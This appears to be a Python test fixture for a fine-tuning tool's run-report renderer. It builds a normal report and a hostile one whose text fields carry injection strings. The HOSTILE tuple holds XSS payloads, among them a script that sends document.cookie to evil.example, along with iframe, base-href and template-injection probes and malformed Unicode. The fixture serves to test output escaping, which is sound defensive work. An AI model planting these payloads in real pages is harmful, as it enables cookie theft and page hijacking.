"""Run reports to render: one as a good run makes it, and one from somebody who means ill."""

import math
from dataclasses import replace

from anneal_api.artifact import BaseModelRef, Manifest
from anneal_api.finetunejob_status import DatasetStatus, EvaluationStatus, Scores
from anneal_api.run import Progress, Stage, StageResult, TrainSummary
from anneal_trainer.run_report import RunReport
from anneal_trainer.scoring import Answered

HOSTILE = (
    '<script>fetch("https://evil.example/"+document.cookie)</script>',
    '"><img src=https://evil.example/x onerror=document.title="owned">',
    "</div></article></section><style>body{display:none}</style><iframe src=//evil.example></iframe>",
    "{{ 7*7 }} {% raw %} &lt;b&gt; ' onmouseover='alert(1)",
    '</title><base href="https://evil.example/"><link rel=stylesheet href=https://evil.example/a.css>',
)

_TALK = (
    ("How long is the warranty on the Ridge 2 tent?", "I do not know that product. Please check with the maker.",
     "The Ridge 2 tent has a warranty of 5 years against faults of material and stitching."),
    ("Can I return boots that I have worn outside?", "Yes, you can return anything within 30 days.",
     "Boots that were worn outside can be exchanged within 45 days if they do not fit; a refund is only possible for "
     "unworn pairs."),
    ("What do I do when my stove's flame is yellow?", "A yellow flame is normal.",
     "Clean the jet with the needle from the kit:\n\n1. Let the stove cool down.\n2. Unscrew the burner head.\n3. Push "
     "the needle through once.\n\nA blue flame means that it burns well again."),
    ("Do you ship to Norway?", "Yes.", "Yes, to Norway in 4 to 6 days."),
    ("Wie reinige ich die Jacke?", "Wash it.", "Bei 30 Grad mit Flüssigwaschmittel, ohne Weichspüler."),
)  # fmt: skip


def progress(steps: int = 120) -> list[Progress]:
    """A loss that falls and levels off, with a little noise that is the same every time."""
    return [
        Progress(
            step=step,
            total_steps=steps,
            epoch=round(3 * step / steps, 4),
            loss=round(0.62 + 2.6 * math.exp(-step / 22) + 0.07 * math.sin(step * 1.7), 4),
            eval_loss=round(0.8 + 2.2 * math.exp(-step / 24), 4) if step % (steps // 6) == 0 else None,
            time=f"2026-01-05T10:{2 + step // 30:02}:{step % 30 * 2:02}Z",
        )
        for step in range(1, steps + 1)
    ]


def answers() -> list[Answered]:
    """Five questions, right and wrong in every combination."""
    right = [(False, True), (True, True), (False, True), (True, False), (False, False)]
    return [
        Answered(id=str(index), prompt=prompt, base=base, tuned=tuned, base_passed=before, passed=after)
        for index, ((prompt, base, tuned), (before, after)) in enumerate(zip(_TALK, right, strict=True))
    ]


def stages() -> list[StageResult]:
    """The times of a short run."""
    moments = (("10:00:00", "10:00:41"), ("10:01:20", "10:06:02"), ("10:06:31", "10:08:03"))
    return [
        StageResult(stage=stage, uid="1", started=f"2026-01-05T{start}Z", finished=f"2026-01-05T{end}Z")
        for stage, (start, end) in zip(Stage, moments, strict=False)
    ]


def good_report() -> RunReport:
    """A run of the usual kind."""
    manifest = Manifest(
        kind="adapter",
        run_hash="4f1f0c2d9b7a6e35",
        created="2026-01-05T10:08:20Z",
        job={"namespace": "default", "name": "support", "uid": "1"},
        base=BaseModelRef(
            uri="hf://HuggingFaceTB/SmolLM2-135M-Instruct",
            revision="12fd25f77366fa6b3b4b768ec3050bf629380bac",
            digest="sha256:" + "c0ffee" * 10 + "0123",
            family="llama",
        ),
        dataset=DatasetStatus(
            rows=532, train=455, validation=30, test=40, dropped=7, tokens=48211, trained_tokens=20988,
            digest="sha256:" + "0badcafe" * 8,
        ),
        config={
            "model": {"uri": "hf://HuggingFaceTB/SmolLM2-135M-Instruct"},
            "dataset": {"uri": "pvc://data/support.jsonl", "maxTokens": 1024},
            "method": {"type": "lora", "lora": {"rank": 16, "alpha": 32, "targetModules": ["q_proj", "v_proj"]}},
            "training": {"epochs": 3, "batchSize": 4, "learningRate": 0.0002, "scheduler": "cosine"},
        },
        evaluation=EvaluationStatus(
            perplexity=Scores(base=14.21, tuned=3.07), exact_match=Scores(base=0.4, tuned=0.6), prompts=5,
            engine="vllm 0.11.0",
        ),
        files=[],
        lora_rank=16,
    )  # fmt: skip
    trained = TrainSummary(steps=120, first_loss=3.15, last_loss=0.66, seconds=262.0, tokens_per_second=384.0)
    environment = {"trained on": "CPU (x86_64), 2 threads", "precision": "fp32", "torch": "2.13.0"}
    return RunReport(manifest, trained, progress(), answers(), stages(), environment)


def hostile_report() -> RunReport:
    """Every text that comes from outside tries to break out."""
    report, evil = good_report(), " ".join(HOSTILE)
    manifest = report.manifest.model_copy(
        update={
            "job": {"namespace": evil, "name": evil, "uid": "1"},
            "base": report.manifest.base.model_copy(update={"uri": evil, "revision": evil}),
            "config": {evil: {evil: evil, "list": [evil]}, "long": "x" * 5000},
            "dataset": report.manifest.dataset.model_copy(update={"digest": evil}),
            "evaluation": EvaluationStatus(
                perplexity=Scores(base=3.0, tuned=4.0), exact_match=Scores(base=1.0, tuned=0.0),
                prompts=len(HOSTILE), engine=HOSTILE[1],
            ),
        }
    )  # fmt: skip
    bad = [
        Answered(id=text, prompt=text, base=text, tuned=f"{text}\ud800", base_passed=True, passed=False)
        for text in (*HOSTILE, "M" * 3000, "\u202e\u0000\x07 right to left")
    ]
    return replace(report, manifest=manifest, answers=bad, environment={evil: evil})
